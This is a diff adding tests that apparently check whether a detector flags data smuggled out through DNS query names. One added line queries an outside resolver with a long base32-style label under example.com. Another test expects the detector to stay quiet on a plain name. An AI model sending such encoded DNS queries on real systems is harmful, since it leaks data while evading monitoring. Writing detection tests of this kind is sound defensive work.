@@ -65,3 +65,9 @@ quiet_raw_socket_opened() {
 	named ping /srv/bin/act
 	ping socket raw
 }
+
+fires_data_hidden_in_names_asked() { act ask "$outside:53" .mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiydcmrtgq2ug.example.com 60; }
+quiet_data_hidden_in_names_asked() {
+	act ask "$outside:53" .example.com 60
+	act ask "$outside:53" .mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiydcmrtgq2ug.example.com 9
+}
